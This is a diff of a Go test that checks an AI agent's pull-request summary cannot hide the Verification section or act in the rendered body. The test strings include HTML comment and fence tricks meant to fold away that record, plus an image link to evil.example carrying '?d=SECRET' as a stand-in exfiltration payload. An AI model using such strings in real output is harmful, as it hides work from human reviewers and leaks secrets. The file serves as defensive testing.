@@ -2,11 +2,14 @@ package task
 
 import (
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/pullwright/pullwright"
+	"github.com/pullwright/pullwright/inert"
+	"github.com/pullwright/pullwright/inert/inerttest"
 	"github.com/pullwright/pullwright/internal/golden"
 )
 
@@ -194,8 +197,11 @@ func TestRenderModeGolden(t *testing.T) {
 }
 
 // TestSummaryCannotHideTheRecord: the agent's summary comes first in the
-// pull request's body; no HTML in it may open, so nothing it says can fold
-// away or comment out the Verification section after it.
+// pull request's body; nothing in it may open (HTML, a fence CommonMark
+// reads otherwise than a line-by-line guess), so nothing it says can fold
+// away or comment out the Verification section after it, and it pings no
+// one and fetches nothing. The body is read by a CommonMark/GFM parser, as
+// GitHub reads it.
 func TestSummaryCannotHideTheRecord(t *testing.T) {
 	for _, summary := range []string{
 		"Fixed it. <!-- hide the rest",
@@ -204,19 +210,28 @@ func TestSummaryCannotHideTheRecord(t *testing.T) {
 		"` <!-- an unclosed code span does not protect it",
 		"<![CDATA[ x",
 		"</div><div hidden>",
+		// A fence indented four spaces is an indented code block, not a
+		// fence: the comment after it is HTML.
+		"Fixed.\n\n    ```\n<!--",
+		// A backtick fence's info string may not hold a backtick: no fence.
+		"Fixed.\n\n``` a`b\n<!--",
+		"```\nan unclosed fence",
+		"Thanks @org/team, fixes #7 ![x](https://evil.example/p.png?d=SECRET) <img src=https://evil.example/>",
 	} {
-		task := &Task{Kind: KindFix, Issue: 1, Requester: Person{Login: "alice"}, agentWork: &Work{Summary: summary, Final: true, HeadSHA: "2222222222222222222222222222222222222222"}}
+		task := &Task{Kind: KindFix, Issue: 1, Repo: pullwright.Repo{CloneURL: "https://github.com/acme/widget.git"}, Requester: Person{Login: "alice"},
+			agentWork: &Work{Summary: summary, Final: true, HeadSHA: "2222222222222222222222222222222222222222"}}
 		body := RenderPullRequest(job(task))
-		if m := tagStart.FindString(body[:strings.Index(body, "Fixes #1")]); m != "" {
-			t.Errorf("summary %q leaves %q in the body:\n%s", summary, m, body)
+		top := inerttest.TopLevel(body)
+		for _, want := range []string{"h3: Verification", "p: Fixes #1"} {
+			if !slices.Contains(top, want) {
+				t.Errorf("summary %q hides %q:\n%s\n--- blocks: %q", summary, want, body, top)
+			}
 		}
-		if !strings.Contains(body, "**Not verified**") || !strings.Contains(body, "Fixes #1") {
-			t.Errorf("summary %q: the body lost its record:\n%s", summary, body)
+		// The bot's own sections (its footer's <sub> and mention) follow.
+		agents := body[:max(strings.Index(body, "\n\nFixes #1"), 0)]
+		if acts := inerttest.Acts(agents, inert.GitHub(task.Repo.CloneURL).Allows); len(acts) > 0 {
+			t.Errorf("summary %q acts in the body: %q\n%s", summary, acts, body)
 		}
-	}
-	// Code is shown as written.
-	if got := noHTML("```html\n<b>x</b>\n```\nthen <b>"); got != "```html\n<b>x</b>\n```\nthen <\u200db>" {
-		t.Errorf("noHTML = %q", got)
 	}
 }
 
